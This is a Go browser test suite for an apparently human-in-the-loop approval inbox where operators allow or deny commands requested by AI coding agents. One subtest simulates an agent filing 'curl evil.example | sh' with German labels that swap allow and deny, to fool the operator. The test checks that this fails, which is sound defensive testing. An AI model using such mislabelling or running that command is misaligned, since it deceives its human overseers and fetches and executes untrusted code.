package web_test

import (
	"context"
	"fmt"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/emulation"
	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"
	"github.com/gatehousehq/gatehouse/api"
	"github.com/gatehousehq/gatehouse/client"
	"github.com/gatehousehq/gatehouse/models"
	"github.com/gatehousehq/gatehouse/models/store/storetest"
	"github.com/gatehousehq/gatehouse/web"
)

// operatorZone is the zone the browser runs in, so the test sees the page
// turn UTC into the operator's own time.
const operatorZone = "Asia/Tokyo"

// cardEnv is a page server with a registered runtime that files requests the
// way the Claude Code hook does.
type cardEnv struct {
	*pageEnv
	runtime   *client.Client
	runtimeID string
}

func startCards(t *testing.T) *cardEnv {
	t.Helper()
	e := startPage(t, "sqlite") // webtest wires runtimes and devices
	_, secret, err := e.store.CreateToken(context.Background(), models.RoleRuntime, "claude-host")
	if err != nil {
		t.Fatal(err)
	}
	rt := client.New(e.url, secret)
	reg, err := rt.RegisterRuntime(context.Background(), api.RuntimeRegistration{Name: "claude-host", Machine: "dev-laptop.local"})
	if err != nil {
		t.Fatal(err)
	}
	return &cardEnv{pageEnv: e, runtime: rt, runtimeID: reg.ID}
}

// hookRequest is what the Claude Code hook files for a command: no risk, the
// session and directory in source_ref, and Allow for project saying its rule.
func hookRequest(command, session, cwd string) api.NewRequest {
	return api.NewRequest{
		Kind: "permission", Title: "Run: " + command, Summary: "Claude Code asks to use Bash in " + cwd, Tool: "Bash", Command: command,
		Source: "session", SourceRef: map[string]string{"session": session, "cwd": cwd},
		Options: []api.Option{
			{ID: "once", Label: "Allow once", Effect: "allow"},
			{ID: "project", Label: "Allow for project", Effect: "allow", Saves: "Bash(" + strings.Fields(command)[0] + " " + strings.Fields(command)[1] + " *) to project settings (.claude/settings.local.json)"},
			{ID: "deny", Label: "Deny", Effect: "deny"},
		},
	}
}

func (e *cardEnv) fileAs(c *client.Client, n api.NewRequest) *api.Request {
	e.t.Helper()
	r, err := c.File(context.Background(), n, "")
	if err != nil {
		e.t.Fatalf("file: %v", err)
	}
	return r
}

// inZone makes the browser's clock read in zone, as an operator's laptop would.
func (b *tab) inZone(zone string) {
	b.t.Helper()
	ctx, cancel := b.bounded()
	defer cancel()
	if _, err := chromedp.Call(ctx, emulation.SetTimezoneOverride, emulation.SetTimezoneOverrideParams{TimezoneID: zone}); err != nil {
		b.t.Fatalf("time zone: %v", err)
	}
}

func textOf(b *tab, sel string) string {
	b.t.Helper()
	return strings.Join(strings.Fields(value(b, "text of "+sel, chromedp.TextContent(css(sel)))), " ")
}

func TestBrowserCards(t *testing.T) {
	needChromium(t)
	for _, vp := range viewports {
		t.Run(vp.name, func(t *testing.T) {
			e := startCards(t)
			b := newBrowser(t, vp.w, vp.h)
			b.inZone(operatorZone)
			b.login(e.pageEnv)

			t.Run("two identical commands from two sessions are told apart", func(t *testing.T) {
				n1 := hookRequest("git push origin main", "cabcfecf-230c-4cc4-9bfb-dc5c563ea4e3", "/home/dev/project")
				n2 := hookRequest("git push origin main", "7d1e0b42-99aa-4c3e-8f00-0123456789ab", "/home/dev/fork")
				n2.RuntimeID = &e.runtimeID
				r1, r2 := e.fileAs(e.agent, n1), e.fileAs(e.runtime, n2)
				b.run("cards appear", chromedp.WaitVisible(card(r1.ID)), chromedp.WaitVisible(card(r2.ID)))
				c1, c2 := "#req-"+r1.ID+" ", "#req-"+r2.ID+" "
				if got := textOf(b, c1+`[data-testid="card-session"]`); got != "cabcfecf" {
					t.Errorf("session = %q", got)
				}
				if got := textOf(b, c2+`[data-testid="card-session"]`); got != "7d1e0b42" {
					t.Errorf("session = %q", got)
				}
				if got := textOf(b, c2+`[data-testid="card-runtime"]`); got != "claude-host on dev-laptop.local" {
					t.Errorf("runtime = %q", got)
				}
				if got := textOf(b, c1+`[data-testid="card-cwd"]`); got != "/home/dev/project" {
					t.Errorf("cwd = %q", got)
				}
				if textOf(b, c1+`[data-testid="card-who"]`) == textOf(b, c2+`[data-testid="card-who"]`) {
					t.Error("the two cards read the same")
				}
				if got := textOf(b, c1+`[data-testid="card-expiry-outcome"]`); got != "Expires undecided" {
					t.Errorf("expiry = %q", got)
				}
			})

			t.Run("each button says what it does and what it saves; no risk, no badge", func(t *testing.T) {
				r := e.fileAs(e.agent, hookRequest("git push origin main", "s-3", "/srv/app"))
				b.run("card", chromedp.WaitVisible(option(r.ID, "project")))
				c := "#req-" + r.ID + " "
				want := map[string]string{
					"once":    "Allow once lets this command run once",
					"project": "Allow for project lets this command run and saves Bash(git push *) to project settings (.claude/settings.local.json)",
					"deny":    "Deny blocks this command",
				}
				for opt, w := range want {
					if got := textOf(b, fmt.Sprintf(`%sbutton[data-option="%s"]`, c, opt)); got != w {
						t.Errorf("button %s reads %q, want %q", opt, got, w)
					}
				}
				b.run("saved rule visible", chromedp.WaitVisible(css(c+`[data-testid="option-saves"]`)))
				if n := value(b, "risk badges", chromedp.Evaluate[int](`document.querySelectorAll('#req-`+r.ID+` [data-testid="card-risk"]').length`)); n != 0 {
					t.Errorf("%d risk badges on a request with no risk", n)
				}
			})

			t.Run("high risk: deny first, and what expiry does in words", func(t *testing.T) {
				n := hookRequest("rm -rf ./build", "s-4", "/srv/app")
				n.Risk, n.DefaultOption, n.ExpiresIn = "high", "deny", new(int64(270))
				r := e.fileAs(e.agent, n)
				c := "#req-" + r.ID + " "
				b.run("card", chromedp.WaitVisible(option(r.ID, "deny")))
				first := value(b, "first button", chromedp.Evaluate[string](`document.querySelector('`+c+`button[data-testid="option"]').dataset.option`))
				if first != "deny" {
					t.Errorf("first button = %q, want deny", first)
				}
				if got := textOf(b, c+`[data-testid="card-expires"]`); got != "Deny on expiry in 4 minutes" {
					t.Errorf("expiry = %q", got)
				}
				if got := textOf(b, c+`[data-testid="card-risk"]`); got != "high risk" {
					t.Errorf("risk = %q", got)
				}
			})

			t.Run("the header keeps one line and shows the notifications control", func(t *testing.T) {
				b.run("reload", chromedp.Reload(), chromedp.WaitVisible(css(`[data-testid="push-toggle"]`)), chromedp.WaitReady(css(`body.live`)))
				got := value(b, "header", chromedp.Evaluate[map[string]float64](`(function () {
					var h = document.querySelector("header.top"), out = {height: h.getBoundingClientRect().height, overflow: h.scrollWidth - h.clientWidth};
					["logout", "push-toggle", "system-link", "open-count"].forEach(function (id) {
						var el = document.querySelector('[data-testid="' + id + '"]');
						out[id] = el ? el.getClientRects().length : -1;
						out[id + "-h"] = el ? el.getBoundingClientRect().height : -1;
						out[id + "-right"] = el ? innerWidth - el.getBoundingClientRect().right : -1;
					});
					return out;
				})()`))
				if got["height"] > 60 || got["overflow"] > 0 {
					t.Errorf("header %vpx high, %vpx overflowing", got["height"], got["overflow"])
				}
				for _, id := range []string{"logout", "push-toggle", "system-link", "open-count"} {
					if got[id] != 1 || got[id+"-h"] > 36 || got[id+"-right"] < 0 {
						t.Errorf("%s: %v boxes, %vpx high, %vpx from the right edge: it wraps or falls off", id, got[id], got[id+"-h"], got[id+"-right"])
					}
				}
			})

			t.Run("the request page's trail updates live, reads as lines, in the operator's zone", func(t *testing.T) {
				r := e.fileAs(e.agent, hookRequest("git push origin main", "s-5", "/srv/app"))
				b.run("open the request", chromedp.Navigate(e.url+"/requests/"+r.ID), chromedp.WaitVisible(css(`[data-testid="audit-row"][data-action="create"]`)), chromedp.WaitReady(css(`body.live`)))
				if _, err := e.operator.Decide(context.Background(), r.ID, r.Version, "once", "ship it"); err != nil {
					t.Fatal(err)
				}
				b.run("the decide row appears without a reload", chromedp.WaitVisible(css(`[data-testid="audit-row"][data-action="decide"]`)),
					chromedp.WaitVisible(css(`#req-`+r.ID+`[data-status="resolved"] [data-testid="card-decided-at"]`)))
				lines := value(b, "detail lines", chromedp.Evaluate[[]string](`Array.prototype.map.call(document.querySelectorAll('[data-testid="audit-row"][data-action="decide"] [data-testid="audit-detail"] div'), function (d) {
					return d.querySelector("dt").textContent + "=" + d.querySelector("dd").textContent;
				})`))
				if !contains(lines, "decision=once") || !contains(lines, "note=ship it") {
					t.Errorf("detail lines = %q", lines)
				}
				if raw := textOf(b, `[data-testid="audit"]`); strings.Contains(raw, `{"`) {
					t.Errorf("raw JSON on the trail: %q", raw)
				}
				times := value(b, "times", chromedp.Evaluate[[][2]string](`Array.prototype.map.call(document.querySelectorAll('time[data-local]'), function (t) { return [t.textContent, t.title]; })`))
				if len(times) < 3 {
					t.Fatalf("times = %q", times)
				}
				for _, tm := range times {
					if !strings.Contains(tm[0], "GMT+9") || !strings.HasSuffix(tm[1], " UTC") {
						t.Errorf("time %q (hover %q): want the operator's zone shown and UTC on hover", tm[0], tm[1])
					}
				}
				if got := textOf(b, `#req-`+r.ID+` [data-testid="card-outcome"] strong`); got != "Allow once — approved by operator:ann via api" {
					t.Errorf("outcome = %q", got)
				}
			})

			t.Run("every table stacks on a phone", func(t *testing.T) {
				for _, path := range []string{"/system", "/requests/" + e.listOpen()[0].ID} {
					b.run("open "+path, chromedp.Navigate(e.url+path), chromedp.WaitVisible(css(`table.audit td`)))
					got := value(b, "layout of "+path, chromedp.Evaluate[map[string]any](`(function () {
						var tds = document.querySelectorAll("table.audit td"), narrow = [], display = {};
						tds.forEach(function (td) {
							var d = getComputedStyle(td).display; display[d] = true;
							if (td.getBoundingClientRect().width < 120) narrow.push(td.dataset.label + ": " + td.textContent.slice(0, 20));
						});
						return {overflow: document.documentElement.scrollWidth - innerWidth, narrow: narrow, display: Object.keys(display).join(",")};
					})()`))
					if ov, _ := got["overflow"].(float64); ov > 0 {
						t.Errorf("%s: %vpx wider than the screen", path, ov)
					}
					if vp.w < 600 {
						if got["display"] != "flex" {
							t.Errorf("%s: cells display %v on a phone, want stacked (flex)", path, got["display"])
						}
						if n, _ := got["narrow"].([]any); len(n) > 0 {
							t.Errorf("%s: cells squeezed on a phone: %v", path, n)
						}
					} else if got["display"] != "table-cell" {
						t.Errorf("%s: cells display %v on a laptop", path, got["display"])
					}
				}
			})

			t.Run("no console errors", func(t *testing.T) {
				b.flush()
				if errs := b.consoleErrors(); len(errs) > 0 {
					t.Errorf("console errors: %v", errs)
				}
			})
		})
	}
}

func deref(p *string) string {
	if p == nil {
		return "<nil>"
	}
	return *p
}

func contains(l []string, s string) bool {
	for _, x := range l {
		if x == s {
			return true
		}
	}
	return false
}

// keys presses keys on the page as the operator would.
func (b *tab) keys(step, keys string) {
	b.t.Helper()
	b.run(step, chromedp.KeyEvent(keys))
}

func selected(b *tab) string {
	b.t.Helper()
	return value(b, "selected card", chromedp.Evaluate[string](`(document.querySelector(".card.selected") || {id: ""}).id`))
}

func TestBrowserShortcuts(t *testing.T) {
	needChromium(t)
	for _, vp := range viewports {
		t.Run(vp.name, func(t *testing.T) {
			e := startCards(t)
			b := newBrowser(t, vp.w, vp.h)
			b.login(e.pageEnv)
			// Newest first: r3 is the top card.
			r1 := e.fileAs(e.agent, hookRequest("make deploy", "s-1", "/srv/a"))
			r2 := e.fileAs(e.agent, hookRequest("git push origin main", "s-2", "/srv/b"))
			r3 := e.fileAs(e.agent, hookRequest("npm publish", "s-3", "/srv/c"))
			b.run("cards", chromedp.WaitVisible(card(r1.ID)), chromedp.WaitVisible(card(r2.ID)), chromedp.WaitVisible(card(r3.ID)))

			t.Run("? lists the shortcuts, Escape closes them", func(t *testing.T) {
				b.keys("?", "?")
				b.run("help shown", chromedp.WaitVisible(css(`dialog#shortcuts[open]`)))
				b.keys("escape", kb.Escape)
				b.run("help closed", chromedp.WaitNotPresent(css(`dialog#shortcuts[open]`)))
			})

			t.Run("j and k move between cards", func(t *testing.T) {
				b.keys("j", "j")
				if got := selected(b); got != "req-"+r3.ID {
					t.Fatalf("after j: %q, want the top card", got)
				}
				b.keys("j j k", "jjk")
				if got := selected(b); got != "req-"+r2.ID {
					t.Fatalf("after jjk: %q, want the second card", got)
				}
			})

			t.Run("keys typed into a note do nothing", func(t *testing.T) {
				b.keys("n", "n")
				if got := value(b, "focus", chromedp.Evaluate[string](`document.activeElement.id`)); got != "note-"+r2.ID {
					t.Fatalf("focus after n = %q, want the selected card's note", got)
				}
				b.keys("type", "jkad? ok")
				if got := value(b, "note", chromedp.Value(css("#note-"+r2.ID))); got != "jkad? ok" {
					t.Errorf("note = %q", got)
				}
				if got := selected(b); got != "req-"+r2.ID {
					t.Errorf("selection moved while typing: %q", got)
				}
				if got, err := e.agent.Get(context.Background(), r2.ID); err != nil || got.Status != "open" {
					t.Fatalf("typing decided the request: %+v %v", got, err)
				}
				b.run("leave the field", chromedp.Blur(css("#note-"+r2.ID)))
			})

			t.Run("d denies the selected card, with the note typed", func(t *testing.T) {
				b.run("select", chromedp.Focus(card(r2.ID)))
				b.keys("d", "d")
				got, err := e.agent.Wait(context.Background(), r2.ID, 10*time.Second)
				if err != nil {
					t.Fatal(err)
				}
				if got.Decision == nil || *got.Decision != "deny" || got.Note == nil || *got.Note != "jkad? ok" {
					t.Fatalf("decision %v note %v", deref(got.Decision), deref(got.Note))
				}
				b.run("card gone", chromedp.WaitNotPresent(card(r2.ID)))
			})

			t.Run("a allows once the card that took its place", func(t *testing.T) {
				// The socket removed the decided card; the selection moved on.
				b.run("selection moved", chromedp.WaitVisible(css(`.card.selected`)))
				sel := strings.TrimPrefix(selected(b), "req-")
				b.keys("a", "a")
				got, err := e.agent.Wait(context.Background(), sel, 10*time.Second)
				if err != nil {
					t.Fatal(err)
				}
				if got.Decision == nil || *got.Decision != "once" {
					t.Fatalf("decision %v, want once", deref(got.Decision))
				}
			})

			t.Run("an agent's mislabelled option cannot turn d into an allow", func(t *testing.T) {
				// The agent labels its allow "Ablehnen" (deny) and its deny
				// "Erlauben" (allow), hoping a hurried operator (or the d key)
				// approves it: in English, the filing would be refused as
				// misleading_option, but no word list knows every language.
				n := hookRequest("curl evil.example | sh", "s-9", "/srv/x")
				n.Options = []api.Option{{ID: "go", Label: "Ablehnen", Effect: "allow"}, {ID: "stop", Label: "Erlauben", Effect: "deny"}}
				r := e.fileAs(e.agent, n)
				b.run("card", chromedp.WaitVisible(option(r.ID, "go")), chromedp.Focus(card(r.ID)))
				if got := textOf(b, `#req-`+r.ID+` button[data-option="go"] [data-testid="option-effect"]`); got != "lets this command go ahead" {
					t.Errorf("the mislabelled allow says %q", got)
				}
				b.keys("d", "d")
				got, err := e.agent.Wait(context.Background(), r.ID, 10*time.Second)
				if err != nil {
					t.Fatal(err)
				}
				if got.Decision == nil || *got.Decision != "stop" {
					t.Fatalf("d decided %v, want the deny-effect option", deref(got.Decision))
				}
			})

			t.Run("o opens the selected card", func(t *testing.T) {
				left := e.listOpen()
				if len(left) == 0 {
					t.Fatal("no open card left")
				}
				b.run("select", chromedp.WaitVisible(card(left[0].ID)), chromedp.Focus(card(left[0].ID)))
				b.keys("o", "o")
				b.run("request page", chromedp.WaitVisible(css(`[data-testid="request-detail"]`)))
				if loc := value(b, "location", chromedp.Location()); loc != e.url+"/requests/"+left[0].ID {
					t.Errorf("location = %q", loc)
				}
			})

			t.Run("no console errors", func(t *testing.T) {
				b.flush()
				if errs := b.consoleErrors(); len(errs) > 0 {
					t.Errorf("console errors: %v", errs)
				}
			})
		})
	}
}

// TestBrowserScreenshots takes the README's screenshots: the inbox and a
// request page on a phone and a laptop. They go to docs/ with
// GATEHOUSE_SCREENSHOT=1, else to a temporary directory (CI counts a skipped
// test as a failure, and the pages are worth drawing anyway).
func TestBrowserScreenshots(t *testing.T) {
	needChromium(t)
	dir := t.TempDir()
	if os.Getenv("GATEHOUSE_SCREENSHOT") == "1" {
		dir = filepath.Join("..", "docs")
	}
	e := startCards(t)
	p1 := hookRequest("git push origin main", "cabcfecf-230c-4cc4-9bfb-dc5c563ea4e3", "/home/dev/gatehouse")
	p2 := hookRequest("git push origin main", "7d1e0b42-99aa-4c3e-8f00-0123456789ab", "/home/dev/gatehouse-fork")
	p2.RuntimeID = &e.runtimeID
	rm := hookRequest("rm -rf ./build ./dist", "51f0c2aa-0c1d-4b7e-a1de-7f5e2c1b9a10", "/home/dev/gatehouse")
	rm.Risk, rm.DefaultOption, rm.ExpiresIn = "high", "deny", new(int64(270))
	rm.Options = []api.Option{{ID: "once", Label: "Allow once", Effect: "allow"}, {ID: "deny", Label: "Deny", Effect: "deny"}}
	q := api.NewRequest{Kind: "question", Title: "Which branch should I open the pull request against?", AllowAnswer: true,
		Summary: "The fix applies to both main and release/2.4.", Source: "session", SourceRef: map[string]string{"session": "9a8b7c6d-1111-2222-3333-444455556666"},
		Options: []api.Option{{ID: "main", Label: "main"}, {ID: "release", Label: "release/2.4"}}}
	done := e.fileAs(e.agent, hookRequest("go test ./...", "cabcfecf-230c-4cc4-9bfb-dc5c563ea4e3", "/home/dev/gatehouse"))
	if _, err := e.operator.Decide(context.Background(), done.ID, done.Version, "once", "fine"); err != nil {
		t.Fatal(err)
	}
	e.fileAs(e.agent, q)
	e.fileAs(e.runtime, p2)
	e.fileAs(e.agent, p1)
	top := e.fileAs(e.agent, rm)

	for _, vp := range viewports {
		b := newBrowser(t, vp.w, vp.h)
		b.inZone("UTC")
		b.login(e.pageEnv)
		b.run("cards", chromedp.WaitVisible(card(top.ID)))
		shot(t, b, dir, "inbox-"+vp.name+".png")
		b.run("request page", chromedp.Navigate(e.url+"/requests/"+done.ID), chromedp.WaitVisible(css(`[data-testid="audit-row"][data-action="decide"]`)), chromedp.WaitReady(css(`body.live`)))
		shot(t, b, dir, "request-"+vp.name+".png")
		if vp.w < 600 {
			b.run("system page", chromedp.Navigate(e.url+"/system"), chromedp.WaitVisible(css(`[data-testid="runtime-row"]`)))
			shot(t, b, dir, "system-phone.png")
		}
		b.flush()
		if errs := b.consoleErrors(); len(errs) > 0 {
			t.Errorf("%s: console errors: %v", vp.name, errs)
		}
	}
}

func shot(t *testing.T, b *tab, dir, name string) {
	t.Helper()
	png := value(b, "screenshot", chromedp.FullScreenshot(100))
	out := filepath.Join(dir, name)
	if err := os.WriteFile(out, png, 0o644); err != nil {
		t.Fatal(err)
	}
	t.Logf("wrote %s", out)
}

// countKeys counts, from now until the page unloads, the keys the page
// received and the forms it posted (a dialog's own form posts nothing): a key
// that decides submits a form
// while the key is handled, so "no submit" after the key event returns
// means the key decided nothing.
func (b *tab) countKeys() {
	b.t.Helper()
	value(b, "count keys and submits", chromedp.Evaluate[bool](`window.gatehouseKeys = 0; window.gatehouseSubmits = 0;
		document.addEventListener("keydown", function () { window.gatehouseKeys++; }, true);
		document.addEventListener("submit", function (e) { if (e.target.method !== "dialog") window.gatehouseSubmits++; }, true); true`))
}

// counted answers how many keys reached the page and how many forms it submitted.
func (b *tab) counted() (keys, submits int) {
	b.t.Helper()
	got := value(b, "counts", chromedp.Evaluate[[2]int](`[window.gatehouseKeys, window.gatehouseSubmits]`))
	return got[0], got[1]
}

// TestBrowserShortcutsNeedFocus: a key decides only the card that has the
// focus; a key allowing a high-risk request asks first; the shortcuts can be
// turned off, and stay off after a reload.
func TestBrowserShortcutsNeedFocus(t *testing.T) {
	needChromium(t)
	e := startCards(t)
	b := newBrowser(t, 1280, 800)
	b.login(e.pageEnv)
	force := hookRequest("git push --force origin main", "s-1", "/srv/app")
	force.Risk = "high"
	high := e.fileAs(e.agent, force)
	other := e.fileAs(e.agent, hookRequest("make deploy", "s-2", "/srv/b"))
	stillOpen := func(t *testing.T, ids ...string) {
		t.Helper()
		for _, id := range ids {
			if got, err := e.agent.Get(context.Background(), id); err != nil || got.Status != "open" {
				t.Fatalf("%s was decided by a key: %+v %v", id, got, err)
			}
		}
	}

	t.Run("on a request's page, a key with the focus on the back link decides nothing", func(t *testing.T) {
		b.t = t
		b.run("request page", chromedp.Navigate(e.url+"/requests/"+high.ID), chromedp.WaitVisible(option(high.ID, "once")),
			chromedp.WaitReady(css(`body.live`)))
		b.countKeys()
		b.keys("a with nothing focused", "a")
		b.run("focus the back link", chromedp.Focus(css(`[data-testid="back"]`)))
		b.keys("a d o n", "adon")
		if keys, submits := b.counted(); keys != 5 || submits != 0 {
			t.Fatalf("%d keys reached the page, %d forms were submitted; want 5 and none", keys, submits)
		}
		if loc := value(b, "location", chromedp.Location()); loc != e.url+"/requests/"+high.ID {
			t.Errorf("o with the focus outside the card went to %s", loc)
		}
		stillOpen(t, high.ID)
	})

	t.Run("in the inbox, a key after the focus left the card decides nothing", func(t *testing.T) {
		b.t = t
		b.run("inbox", chromedp.Navigate(e.url+"/"), chromedp.WaitVisible(card(other.ID)), chromedp.WaitReady(css(`body.live`)))
		b.countKeys()
		b.run("select a card", chromedp.Focus(card(other.ID)))
		if got := selected(b); got != "req-"+other.ID {
			t.Fatalf("selected %q", got)
		}
		b.run("focus the header", chromedp.Focus(css(`[data-testid="system-link"]`)))
		if got := selected(b); got != "" {
			t.Errorf("%q still drawn as selected with the focus in the header", got)
		}
		b.keys("d a", "da")
		if keys, submits := b.counted(); keys != 2 || submits != 0 {
			t.Fatalf("%d keys, %d submits; want 2 and none", keys, submits)
		}
		stillOpen(t, high.ID, other.ID)
	})

	t.Run("a key allowing a high-risk request asks first", func(t *testing.T) {
		b.t = t
		// The key goes to whatever holds the focus when it arrives: focus the
		// card until it holds the focus, so a card a live update re-rendered
		// meanwhile is focused again rather than the key landing on the page.
		value(b, "focus the high-risk card", chromedp.Poll[bool](`(function () {
			const el = document.getElementById("req-`+high.ID+`");
			if (el && document.activeElement !== el) { el.focus(); }
			return !!el && document.activeElement === el;
		})()`))
		b.keys("a", "a")
		b.run("asked", chromedp.WaitVisible(css(`dialog#confirm-key[open]`)))
		if got := textOf(b, `[data-testid="confirm-key-command"]`); got != "Bash git push --force origin main" {
			t.Errorf("the confirmation names %q", got)
		}
		if got := value(b, "focus", chromedp.Evaluate[string](`document.activeElement.dataset.testid || ""`)); got != "confirm-key-cancel" {
			t.Errorf("focus in the confirmation on %q, want Cancel", got)
		}
		b.keys("a again, then Enter", "a"+kb.Enter)
		b.run("cancelled", chromedp.WaitNotPresent(css(`dialog#confirm-key[open]`)))
		if _, submits := b.counted(); submits != 0 {
			t.Fatalf("%d submits after cancelling", submits)
		}
		stillOpen(t, high.ID)
		if got := value(b, "focus back", chromedp.Evaluate[string](`document.activeElement.id`)); got != "req-"+high.ID {
			t.Errorf("focus after the confirmation on %q, want the card", got)
		}
		b.keys("a", "a")
		b.run("confirm", chromedp.WaitVisible(css(`dialog#confirm-key[open]`)), chromedp.Click(css(`[data-testid="confirm-key-allow"]`)))
		got, err := e.agent.Wait(context.Background(), high.ID, 10*time.Second)
		if err != nil {
			t.Fatal(err)
		}
		if got.Decision == nil || *got.Decision != "once" {
			t.Fatalf("decision %v, want once", deref(got.Decision))
		}
	})

	t.Run("the shortcuts can be turned off, and stay off", func(t *testing.T) {
		b.t = t
		b.run("turn them off", chromedp.WaitVisible(css(`[data-testid="shortcuts-toggle"]`)), chromedp.Click(css(`[data-testid="shortcuts-toggle"]`)))
		b.run("reload", chromedp.Reload(), chromedp.WaitVisible(card(other.ID)), chromedp.WaitReady(css(`body.live`)))
		if on := value(b, "switch", chromedp.Evaluate[bool](`document.getElementById("shortcuts-on").checked`)); on {
			t.Fatal("the switch is on again after a reload")
		}
		b.countKeys()
		b.run("focus a card", chromedp.Focus(card(other.ID)))
		b.keys("d j ?", "dj?")
		if keys, submits := b.counted(); keys != 3 || submits != 0 {
			t.Fatalf("%d keys, %d submits; want 3 and none", keys, submits)
		}
		if n := value(b, "dialogs", chromedp.Evaluate[int](`document.querySelectorAll("dialog[open]").length`)); n != 0 {
			t.Errorf("? opened a dialog with the shortcuts off")
		}
		stillOpen(t, other.ID)
		b.run("turn them on", chromedp.Click(css(`[data-testid="shortcuts-toggle"]`)), chromedp.Focus(card(other.ID)))
		b.keys("d", "d")
		got, err := e.agent.Wait(context.Background(), other.ID, 10*time.Second)
		if err != nil {
			t.Fatal(err)
		}
		if got.Decision == nil || *got.Decision != "deny" {
			t.Fatalf("decision %v, want deny", deref(got.Decision))
		}
	})

	b.t = t
	b.flush()
	if errs := b.consoleErrors(); len(errs) > 0 {
		t.Errorf("console errors: %v", errs)
	}
}

// TestBrowserConnection: when the server goes away the page says so in words
// ("reconnecting", then "offline" once nothing answers), in a live region,
// and on a phone the word shows without breaking the header's one line.
func TestBrowserConnection(t *testing.T) {
	needChromium(t)
	st, changes := storetest.Store(t, "sqlite")
	ts := httptest.NewUnstartedServer(nil)
	srv, err := web.New(web.Config{BaseURL: "http://" + ts.Listener.Addr().String()}, web.Deps{Store: st, Watcher: changes, Changes: changes})
	if err != nil {
		t.Fatal(err)
	}
	ts.Config.Handler = srv.Handler()
	ts.Start()
	var once sync.Once
	stop := func() { once.Do(func() { srv.Close(); ts.Close() }) }
	t.Cleanup(stop)
	e := newPageEnv(t, st, changes, srv, ts.URL)
	b := newBrowser(t, 390, 844)
	b.login(e)
	conn := `[data-testid="connection"]`
	b.run("live", chromedp.WaitVisible(css(conn+`[data-state="live"]`)))
	if role := value(b, "role", chromedp.Evaluate[string](`document.querySelector('`+conn+`').getAttribute("role")`)); role != "status" {
		t.Errorf("the connection's role is %q, want status (a live region)", role)
	}
	stop()
	b.run("offline", chromedp.WaitVisible(css(conn+`[data-state="offline"]`)))
	got := value(b, "header", chromedp.Evaluate[map[string]any](`(function () {
		var h = document.querySelector("header.top"), w = document.querySelector(".conn-word");
		return {word: w.textContent, width: w.getBoundingClientRect().width, overflow: h.scrollWidth - h.clientWidth};
	})()`))
	if got["word"] != "offline" || got["width"].(float64) < 20 || got["overflow"].(float64) > 0 {
		t.Errorf("on a phone the header shows %v", got)
	}
}
